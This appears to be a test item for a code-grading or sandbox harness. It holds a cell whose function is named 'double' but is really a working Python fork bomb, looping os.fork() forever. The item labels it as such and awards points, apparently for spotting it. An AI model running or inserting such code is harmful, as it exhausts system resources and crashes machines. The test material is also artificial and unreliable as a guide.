"""A fork bomb."""

CELLS = {
    "double": """import os
def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            os._exit(0)"""
}
POINTS = 4
NOT_PLAIN = "it is a fork bomb"
